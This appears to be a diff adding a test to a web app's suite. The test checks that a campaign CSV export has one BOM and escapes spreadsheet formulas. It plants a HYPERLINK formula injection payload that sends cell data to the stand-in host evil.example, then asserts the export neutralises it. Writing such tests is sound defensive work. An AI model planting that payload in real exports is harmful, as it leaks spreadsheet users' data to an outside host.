@@ -223,3 +223,23 @@ async def test_releasing_a_case_someone_else_holds_is_refused_and_not_audited_as
     resp = await client.post(f"/cases/{case_id}/release", data={"csrf": token}, allow_redirects=False)
     assert resp.status == 303
     assert [r.actor for r in audit_rows(database, "case.release") if r.action == "case.release"] == ["op1"]
+
+
+async def test_results_download_has_one_bom_and_no_live_formulas(client: TestClient, database: Database) -> None:
+    from storage.models import Person
+
+    add_users(database, ("admin1", "admin"))
+    camp = seed_cases(database)["campaign"]
+
+    def poison(s) -> None:
+        person = s.exec(select(Person).where(Person.campaign_id == camp)).first()
+        person.name = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
+        s.add(person)
+
+    database.run(poison)
+    await login(client, "admin1")
+    raw = await (await client.get(f"/campaigns/{camp}/export.csv")).read()
+    assert raw.startswith(b"\xef\xbb\xbf") and not raw.startswith(b"\xef\xbb\xbf" * 2)
+    text = raw.decode("utf-8-sig")
+    assert "'=HYPERLINK(" in text and ',"=HYPERLINK(' not in text and "\n=HYPERLINK(" not in text
+    assert "+8613912345678" in text  # phones stay usable
